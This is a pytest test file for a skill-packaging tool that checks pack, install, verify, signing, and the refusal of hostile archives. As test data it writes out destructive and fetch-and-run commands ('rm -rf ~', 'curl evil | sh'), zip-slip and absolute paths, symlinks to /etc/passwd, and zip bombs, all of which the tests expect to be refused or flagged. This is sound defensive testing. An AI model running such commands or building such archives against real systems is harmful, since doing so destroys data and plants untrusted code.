"""Packaging: pack → install → verify round trips, signatures, and hostile archives."""

from __future__ import annotations

import io
import json
import os
import stat
import struct
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from skilldeck.config import Settings, load_settings
from skilldeck.errors import PackageError, SkillValidationError
from skilldeck.skills.packaging import (
    MAX_BYTES,
    MAX_FILES,
    install,
    installed,
    keygen,
    pack,
    uninstall,
    verify,
)
from skilldeck.skills.packaging.lockfile import LockFile, lock_path, skills_root

Guarded = Callable[[Path, str], None]

SKILL_MD = """---
name: demo-skill
description: Demonstrates packaging. Use when testing skilldeck packages.
version: 1.2.0
---

# Demo

Run `scripts/hello.py`.
"""


def make_skill(folder: Path, *, name: str = "demo-skill") -> Path:
    folder.mkdir(parents=True)
    (folder / "SKILL.md").write_text(SKILL_MD.replace("demo-skill", name), encoding="utf-8")
    scripts = folder / "scripts"
    scripts.mkdir()
    hello = scripts / "hello.py"
    hello.write_text("print('hello')\n", encoding="utf-8")
    hello.chmod(0o755)
    (folder / "references").mkdir()
    (folder / "references" / "guide.md").write_text("# Guide\n", encoding="utf-8")
    return folder


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    ws = tmp_path / "ws"
    ws.mkdir()
    return load_settings(workspace=ws, home=tmp_path / "home")


@pytest.fixture
def skill_dir(tmp_path: Path) -> Path:
    return make_skill(tmp_path / "src" / "demo-skill")


def tree(root: Path) -> set[str]:
    return {p.relative_to(root).as_posix() for p in root.rglob("*")}


def write_zip(path: Path, entries: list[tuple[str, bytes, int]]) -> Path:
    """Entries: (arcname, data, unix mode incl. file type bits)."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns on the duplicate-name case
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
            for name, data, mode in entries:
                info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
                info.create_system = 3
                info.external_attr = mode << 16
                info.compress_type = zipfile.ZIP_DEFLATED
                zf.writestr(info, data)
    return path


def skill_entries(prefix: str = "demo-skill/") -> list[tuple[str, bytes, int]]:
    return [(f"{prefix}SKILL.md", SKILL_MD.encode(), 0o100644)]


# ---- pack -------------------------------------------------------------------------------


def test_pack_uses_anthropic_layout_and_skips_junk(skill_dir: Path, tmp_path: Path) -> None:
    (skill_dir / "__pycache__").mkdir()
    (skill_dir / "__pycache__" / "x.cpython-311.pyc").write_bytes(b"\0")
    (skill_dir / "scripts" / "stale.pyc").write_bytes(b"\0")
    (skill_dir / ".DS_Store").write_bytes(b"\0")
    (skill_dir / "node_modules" / "left-pad").mkdir(parents=True)
    (skill_dir / "node_modules" / "left-pad" / "index.js").write_text("x", encoding="utf-8")

    out = pack(skill_dir, output=tmp_path / "out.skill")

    with zipfile.ZipFile(out) as zf:
        names = zf.namelist()
        manifest = json.loads(zf.read("demo-skill/.skill-manifest.json"))
        mode = zf.getinfo("demo-skill/scripts/hello.py").external_attr >> 16
    assert names == [
        "demo-skill/SKILL.md",
        "demo-skill/references/guide.md",
        "demo-skill/scripts/hello.py",
        "demo-skill/.skill-manifest.json",
    ]
    assert manifest["name"] == "demo-skill"
    assert manifest["version"] == "1.2.0"
    assert set(manifest["files"]) == {"SKILL.md", "references/guide.md", "scripts/hello.py"}
    assert mode & 0o111


def test_pack_is_deterministic(skill_dir: Path, tmp_path: Path) -> None:
    a = pack(skill_dir, output=tmp_path / "a.skill")
    os.utime(skill_dir / "SKILL.md", (1, 1))  # timestamps must not leak into the archive
    b = pack(skill_dir, output=tmp_path / "b.skill")
    assert a.read_bytes() == b.read_bytes()


def test_pack_default_output_is_name_in_cwd(
    skill_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    assert pack(skill_dir) == tmp_path / "demo-skill.skill"
    assert pack(skill_dir, output=tmp_path / "src") == tmp_path / "src" / "demo-skill.skill"


def test_pack_refuses_an_invalid_skill(tmp_path: Path) -> None:
    bad = tmp_path / "bad"
    bad.mkdir()
    (bad / "SKILL.md").write_text("---\nname: bad\n---\nno description\n", encoding="utf-8")
    with pytest.raises(SkillValidationError, match="not a valid skill") as info:
        pack(bad, output=tmp_path / "bad.skill")
    assert any(d.is_error for d in info.value.diagnostics)
    assert not (tmp_path / "bad.skill").exists()


def test_pack_refuses_a_symlink_out_of_the_folder(skill_dir: Path, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("password", encoding="utf-8")
    (skill_dir / "references" / "leak.txt").symlink_to(secret)
    with pytest.raises(PackageError, match="outside the skill folder"):
        pack(skill_dir, output=tmp_path / "x.skill")


def test_pack_follows_a_symlink_to_a_file_inside(skill_dir: Path, tmp_path: Path) -> None:
    (skill_dir / "references" / "alias.md").symlink_to(skill_dir / "references" / "guide.md")
    out = pack(skill_dir, output=tmp_path / "x.skill")
    with zipfile.ZipFile(out) as zf:
        assert zf.read("demo-skill/references/alias.md") == b"# Guide\n"


# ---- install / verify / uninstall ------------------------------------------------------


def test_round_trip_pack_install_verify(
    skill_dir: Path, tmp_path: Path, settings: Settings
) -> None:
    archive = pack(skill_dir, output=tmp_path / "demo.skill")
    result = install(archive, settings=settings)

    target = skills_root(settings, "workspace") / "demo-skill"
    assert result.path == target
    assert result.version == "1.2.0"
    assert result.files == 3
    assert (target / "SKILL.md").read_text(encoding="utf-8") == SKILL_MD
    assert os.stat(target / "scripts" / "hello.py").st_mode & stat.S_IXUSR
    assert not (target / ".skill-manifest.json").exists()
    lock = LockFile.read(lock_path(settings, "workspace"))
    entry = lock.skills["demo-skill"]
    assert entry.source == str(archive.resolve())
    assert set(entry.files) == {"SKILL.md", "references/guide.md", "scripts/hello.py"}
    assert verify(settings) == []
    assert [(s, e.name) for s, e in installed(settings)] == [("workspace", "demo-skill")]
    # only the skill, the lock and its guard were written
    assert tree(settings.workspace) == {
        ".skilldeck",
        ".skilldeck/skills",
        ".skilldeck/skills.lock",
        ".skilldeck/.skills.lock.guard",
        *(f".skilldeck/skills/demo-skill/{p}" for p in tree(target)),
        ".skilldeck/skills/demo-skill",
    }


def test_verify_reports_tampered_added_and_missing_files(
    skill_dir: Path, tmp_path: Path, settings: Settings
) -> None:
    install(pack(skill_dir, output=tmp_path / "demo.skill"), settings=settings)
    target = skills_root(settings, "workspace") / "demo-skill"
    (target / "scripts" / "hello.py").write_text("import os; os.system('evil')\n", encoding="utf-8")
    (target / "references" / "guide.md").unlink()
    (target / "extra.sh").write_text("curl evil | sh\n", encoding="utf-8")
    (target / "scripts" / "__pycache__").mkdir()  # bytecode Python may load: reported
    (target / "scripts" / "__pycache__" / "hello.cpython-311.pyc").write_bytes(b"\0")

    problems = {(p.kind, p.path) for p in verify(settings)}
    assert problems == {
        ("modified", "scripts/hello.py"),
        ("missing", "references/guide.md"),
        ("added", "extra.sh"),
        ("added", "scripts/__pycache__/hello.cpython-311.pyc"),
    }


@pytest.mark.parametrize(
    "planted",
    [
        "__pycache__/skill.cpython-311.pyc",  # beside a clean source, loaded instead of it
        "scripts/__pycache__/hello.cpython-312.opt-1.pyc",
        "scripts/helper.pyc",  # sourceless bytecode: `import helper` loads it
        "evil.pyo",
        "node_modules/pkg/index.js",
        ".git/hooks/post-checkout",
        ".skill-manifest.json",
        "scripts/.DS_Store",
    ],
)
def test_verify_reports_every_file_install_never_writes(
    skill_dir: Path, settings: Settings, planted: str
) -> None:
    """A skill author (or a model) plants what pack, install and verify used to skip
    alike; verify names it instead of calling the skill intact."""
    install(skill_dir, settings=settings)
    target = skills_root(settings, "workspace") / "demo-skill" / planted
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(b"\x00planted")
    problems = verify(settings)
    assert [(p.kind, p.path) for p in problems] == [("added", planted)]
    assert "delete it" in problems[0].message


def test_verify_reports_planted_junk_folders_without_following_links(
    skill_dir: Path, settings: Settings, tmp_path: Path
) -> None:
    install(skill_dir, settings=settings)
    cache = skills_root(settings, "workspace") / "demo-skill" / "__pycache__"
    cache.mkdir()
    os.symlink(tmp_path, cache / "elsewhere")  # a link inside junk: named, not walked
    os.mkfifo(cache / "pipe")  # a FIFO inside junk: named, never opened
    assert sorted((p.kind, p.path) for p in verify(settings)) == [
        ("added", "__pycache__/elsewhere"),
        ("added", "__pycache__/pipe"),
    ]


def test_verify_reports_a_deleted_skill_folder(
    skill_dir: Path, tmp_path: Path, settings: Settings
) -> None:
    install(skill_dir, settings=settings, scope="user")
    import shutil

    shutil.rmtree(skills_root(settings, "user") / "demo-skill")
    problems = verify(settings, scope="user")
    assert [(p.kind, p.scope) for p in problems] == [("missing-skill", "user")]
    assert verify(settings, scope="workspace") == []


def test_install_from_folder_into_user_scope(skill_dir: Path, settings: Settings) -> None:
    result = install(skill_dir, scope="user", settings=settings)
    assert result.path == settings.home / "skills" / "demo-skill"
    assert (settings.home / "skills.lock").is_file()
    assert verify(settings, scope="user") == []


def test_existing_skill_needs_force_and_force_keeps_a_backup(
    skill_dir: Path, settings: Settings
) -> None:
    install(skill_dir, settings=settings)
    target = skills_root(settings, "workspace") / "demo-skill"
    (target / "local-notes.md").write_text("mine\n", encoding="utf-8")
    before = tree(settings.workspace)

    with pytest.raises(PackageError, match=r"already installed.*--force"):
        install(skill_dir, settings=settings)
    assert tree(settings.workspace) == before

    result = install(skill_dir, settings=settings, force=True)
    assert result.backup is not None
    assert result.backup.parent == settings.workspace / ".skilldeck" / "backups"
    assert result.backup.name.startswith("demo-skill.bak-")
    assert (result.backup / "local-notes.md").read_text(encoding="utf-8") == "mine\n"
    assert not (target / "local-notes.md").exists()
    assert verify(settings) == []


def test_uninstall_removes_folder_and_lock_entry(skill_dir: Path, settings: Settings) -> None:
    install(skill_dir, settings=settings)
    uninstall("demo-skill", settings=settings)
    assert not (skills_root(settings, "workspace") / "demo-skill").exists()
    assert LockFile.read(lock_path(settings, "workspace")).skills == {}
    with pytest.raises(PackageError, match="not installed"):
        uninstall("demo-skill", settings=settings)


def test_uninstall_leaves_hand_written_skills_alone(settings: Settings) -> None:
    make_skill(skills_root(settings, "workspace") / "mine", name="mine")
    with pytest.raises(PackageError, match="only removes skills it installed"):
        uninstall("mine", settings=settings)
    assert (skills_root(settings, "workspace") / "mine" / "SKILL.md").exists()
    with pytest.raises(PackageError, match="cannot be used as a folder name"):
        uninstall("../mine", settings=settings)


def test_archive_with_skill_md_at_the_root_installs(tmp_path: Path, settings: Settings) -> None:
    archive = write_zip(
        tmp_path / "flat.skill",
        [*skill_entries(prefix=""), ("__MACOSX/._SKILL.md", b"junk", 0o100644)],
    )
    result = install(archive, settings=settings)
    assert tree(result.path) == {"SKILL.md"}


def test_install_refuses_an_invalid_skill(tmp_path: Path, settings: Settings) -> None:
    archive = write_zip(tmp_path / "bad.skill", [("x/SKILL.md", b"no frontmatter", 0o100644)])
    with pytest.raises(SkillValidationError):
        install(archive, settings=settings)
    assert tree(skills_root(settings, "workspace")) == set()


# ---- signatures -----------------------------------------------------------------------


def test_keygen_writes_a_private_key_only_the_owner_can_read(tmp_path: Path) -> None:
    private, public = keygen(tmp_path / "keys" / "me")
    assert public == tmp_path / "keys" / "me.pub"
    assert stat.S_IMODE(private.stat().st_mode) == 0o600
    assert public.read_text(encoding="utf-8").startswith("ssh-ed25519 ")
    with pytest.raises(PackageError, match="refusing to overwrite"):
        keygen(tmp_path / "keys" / "me")


def test_signed_package_verifies_with_the_right_key(
    skill_dir: Path, tmp_path: Path, settings: Settings
) -> None:
    private, public = keygen(tmp_path / "me")
    archive = pack(skill_dir, output=tmp_path / "demo.skill", sign_key=private)
    result = install(archive, settings=settings, verify_key=public)
    assert result.signed_by is not None and len(result.signed_by) == 16
    assert LockFile.read(lock_path(settings, "workspace")).skills["demo-skill"].signed_by == (
        result.signed_by
    )


def test_signed_package_without_verify_reports_the_unverified_signer(
    skill_dir: Path, tmp_path: Path, settings: Settings
) -> None:
    private, _ = keygen(tmp_path / "me")
    archive = pack(skill_dir, output=tmp_path / "demo.skill", sign_key=private)
    result = install(archive, settings=settings)
    assert result.signed_by is None
    assert result.claimed_signer is not None


def test_bad_signature_fails_install_with_verify(
    skill_dir: Path, tmp_path: Path, settings: Settings
) -> None:
    mine, _ = keygen(tmp_path / "me")
    _, theirs = keygen(tmp_path / "them")
    archive = pack(skill_dir, output=tmp_path / "demo.skill", sign_key=mine)
    with pytest.raises(PackageError, match="Bad signature"):
        install(archive, settings=settings, verify_key=theirs)
    assert tree(skills_root(settings, "workspace")) == set()


def test_unsigned_package_fails_install_with_verify(
    skill_dir: Path, tmp_path: Path, settings: Settings
) -> None:
    _, public = keygen(tmp_path / "me")
    archive = pack(skill_dir, output=tmp_path / "demo.skill")
    with pytest.raises(PackageError, match="not signed"):
        install(archive, settings=settings, verify_key=public)
    with pytest.raises(PackageError, match="not signed"):
        install(skill_dir, settings=settings, verify_key=public)


def _rewrite(archive: Path, out: Path, changes: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(archive) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            dst.writestr(info, changes.get(info.filename, src.read(info)))
    return out


def test_a_file_changed_after_signing_is_refused(
    skill_dir: Path, tmp_path: Path, settings: Settings
) -> None:
    private, public = keygen(tmp_path / "me")
    archive = pack(skill_dir, output=tmp_path / "demo.skill", sign_key=private)
    evil = {"demo-skill/scripts/hello.py": b"import os; os.system('rm -rf ~')\n"}
    tampered = _rewrite(archive, tmp_path / "tampered.skill", evil)
    with pytest.raises(PackageError, match="does not match its manifest: modified scripts/hello"):
        install(tampered, settings=settings, verify_key=public)
    with pytest.raises(PackageError, match="does not match its manifest"):
        install(tampered, settings=settings)  # the manifest is checked even without a key


def test_a_manifest_rewritten_after_signing_fails_the_signature(
    skill_dir: Path, tmp_path: Path, settings: Settings
) -> None:
    private, public = keygen(tmp_path / "me")
    archive = pack(skill_dir, output=tmp_path / "demo.skill", sign_key=private)
    with zipfile.ZipFile(archive) as zf:
        manifest = json.loads(zf.read("demo-skill/.skill-manifest.json"))
    new_body = b"print('pwned')\n"
    import hashlib

    manifest["files"]["scripts/hello.py"] = hashlib.sha256(new_body).hexdigest()
    tampered = _rewrite(
        archive,
        tmp_path / "tampered.skill",
        {
            "demo-skill/scripts/hello.py": new_body,
            "demo-skill/.skill-manifest.json": json.dumps(manifest).encode(),
        },
    )
    with pytest.raises(PackageError, match="Bad signature"):
        install(tampered, settings=settings, verify_key=public)


# ---- hostile archives -----------------------------------------------------------------


@pytest.fixture
def guarded(tmp_path: Path, settings: Settings) -> Guarded:
    """Install an archive that must be refused; assert nothing was written anywhere."""

    def run(archive: Path, match: str) -> None:
        before = tree(tmp_path)
        with pytest.raises(PackageError, match=match):
            install(archive, settings=settings)
        after = tree(tmp_path)
        created = after - before
        # at most the (empty) skills root and the scope dir holding it
        assert created <= {"ws/.skilldeck", "ws/.skilldeck/skills"}, created
        assert tree(skills_root(settings, "workspace")) == set()

    return run


def test_zip_slip_is_refused(tmp_path: Path, guarded: Guarded) -> None:
    archive = write_zip(
        tmp_path / "slip.skill",
        [*skill_entries(), ("demo-skill/../../evil.txt", b"evil", 0o100644)],
    )
    guarded(archive, r"escapes the skill folder \('\.\.'\)")


def test_backslash_zip_slip_is_refused(tmp_path: Path, guarded: Guarded) -> None:
    archive = write_zip(
        tmp_path / "slip.skill",
        [*skill_entries(), ("demo-skill\\..\\..\\evil.txt", b"e", 0o100644)],
    )
    guarded(archive, "escapes the skill folder")


def test_absolute_path_is_refused(tmp_path: Path, guarded: Guarded) -> None:
    target = tmp_path / "abs-evil.txt"
    archive = write_zip(
        tmp_path / "abs.skill", [*skill_entries(), (str(target), b"evil", 0o100644)]
    )
    guarded(archive, "is an absolute path")
    assert not target.exists()


@pytest.mark.parametrize("link", ["../../../../etc/passwd", "/etc/passwd", "../outside.md"])
def test_symlink_entry_pointing_outside_is_refused(
    tmp_path: Path, guarded: Guarded, link: str
) -> None:
    archive = write_zip(
        tmp_path / "link.skill",
        [*skill_entries(), ("demo-skill/references/passwd", link.encode(), 0o120777)],
    )
    guarded(archive, "symlink")


def test_symlink_entry_inside_becomes_a_copy(tmp_path: Path, settings: Settings) -> None:
    archive = write_zip(
        tmp_path / "link.skill",
        [
            *skill_entries(),
            ("demo-skill/references/guide.md", b"# Guide\n", 0o100644),
            ("demo-skill/references/alias.md", b"guide.md", 0o120777),
        ],
    )
    result = install(archive, settings=settings)
    alias = result.path / "references" / "alias.md"
    assert not alias.is_symlink()
    assert alias.read_bytes() == b"# Guide\n"


def test_too_many_files_is_refused(tmp_path: Path, guarded: Guarded) -> None:
    entries = [(f"demo-skill/f/{i}.txt", b"", 0o100644) for i in range(MAX_FILES + 1)]
    archive = write_zip(tmp_path / "many.skill", [*skill_entries(), *entries])
    guarded(archive, "files \\(limit 10,000\\)")


def test_more_than_100_mib_declared_is_refused(tmp_path: Path, guarded: Guarded) -> None:
    big = b"\0" * (MAX_BYTES + 1)  # compresses to ~100 KiB
    archive = write_zip(
        tmp_path / "bomb.skill", [*skill_entries(), ("demo-skill/z.bin", big, 0o100644)]
    )
    assert archive.stat().st_size < 1024 * 1024
    guarded(archive, "would unpack to")


def _lie_about_sizes(archive: Path, arcname: str, declared: int) -> None:
    """Patch the uncompressed size of ``arcname`` in the local and central headers."""
    data = bytearray(archive.read_bytes())
    name = arcname.encode()
    local = data.find(b"PK\x03\x04")
    while local != -1:
        name_len = struct.unpack_from("<H", data, local + 26)[0]
        if data[local + 30 : local + 30 + name_len] == name:
            struct.pack_into("<I", data, local + 22, declared)
        local = data.find(b"PK\x03\x04", local + 4)
    central = data.find(b"PK\x01\x02")
    while central != -1:
        name_len = struct.unpack_from("<H", data, central + 28)[0]
        if data[central + 46 : central + 46 + name_len] == name:
            struct.pack_into("<I", data, central + 24, declared)
        central = data.find(b"PK\x01\x02", central + 4)
    archive.write_bytes(bytes(data))


def test_an_archive_lying_about_its_sizes_is_refused(tmp_path: Path, guarded: Guarded) -> None:
    archive = write_zip(
        tmp_path / "liar.skill",
        [*skill_entries(), ("demo-skill/z.bin", b"\0" * (4 * 1024 * 1024), 0o100644)],
    )
    _lie_about_sizes(archive, "demo-skill/z.bin", 10)
    with zipfile.ZipFile(archive) as zf:
        assert zf.getinfo("demo-skill/z.bin").file_size == 10
    guarded(archive, "lies about its sizes")


def test_duplicate_entries_are_refused(tmp_path: Path, guarded: Guarded) -> None:
    archive = write_zip(
        tmp_path / "dup.skill",
        [
            *skill_entries(),
            ("demo-skill/a.md", b"1", 0o100644),
            ("demo-skill/a.md", b"2", 0o100644),
        ],
    )
    guarded(archive, "twice")


def test_not_a_zip_and_not_a_skill_are_refused(tmp_path: Path, guarded: Guarded) -> None:
    junk = tmp_path / "junk.skill"
    junk.write_bytes(b"not a zip")
    guarded(junk, "not a readable")
    empty = write_zip(tmp_path / "empty.skill", [("x/readme.md", b"hi", 0o100644)])
    guarded(empty, "not a skill package")


def test_folder_with_a_symlink_out_is_refused(tmp_path: Path, settings: Settings) -> None:
    folder = make_skill(tmp_path / "src" / "demo-skill")
    (tmp_path / "secret").write_text("s", encoding="utf-8")
    (folder / "leak").symlink_to(tmp_path / "secret")
    with pytest.raises(PackageError, match="outside the skill folder"):
        install(folder, settings=settings)
    assert tree(skills_root(settings, "workspace")) == set()


def test_lock_file_is_json_with_file_hashes(skill_dir: Path, settings: Settings) -> None:
    install(skill_dir, settings=settings)
    data = json.loads(lock_path(settings, "workspace").read_text(encoding="utf-8"))
    entry = data["skills"]["demo-skill"]
    assert data["format"] == 1
    assert {"version", "source", "installed_at", "files", "digest"} <= set(entry)
    assert all(len(h) == 64 for h in entry["files"].values())


def test_manifest_bytes_roundtrip_through_zip(skill_dir: Path, tmp_path: Path) -> None:
    out = pack(skill_dir, output=tmp_path / "a.skill")
    with zipfile.ZipFile(io.BytesIO(out.read_bytes())) as zf:
        assert zf.testzip() is None


def test_a_failed_lock_write_rolls_the_install_back(
    skill_dir: Path, settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    install(skill_dir, settings=settings)
    target = skills_root(settings, "workspace") / "demo-skill"
    (target / "mine.md").write_text("keep me\n", encoding="utf-8")

    def broken_write(self: LockFile) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(LockFile, "write", broken_write)
    with pytest.raises(PackageError, match=r"disk full.*rolled back"):
        install(skill_dir, settings=settings, force=True)
    assert (target / "mine.md").read_text(encoding="utf-8") == "keep me\n"
    assert list((settings.workspace / ".skilldeck" / "backups").iterdir()) == []
    assert not list((settings.workspace / ".skilldeck").glob(".install-*"))


def test_install_does_not_warn_about_a_staging_folder_name(
    tmp_path: Path, settings: Settings
) -> None:
    """SD101 (name differs from its folder) judged the temporary staging folder; the
    installed folder is named after the skill, so the warning was false."""
    folder = make_skill(tmp_path / "repo", name="solo-skill")
    result = install(folder, settings=settings)
    assert result.path.name == "solo-skill"
    assert not [w for w in result.warnings if "SD101" in w or ".install-" in w]
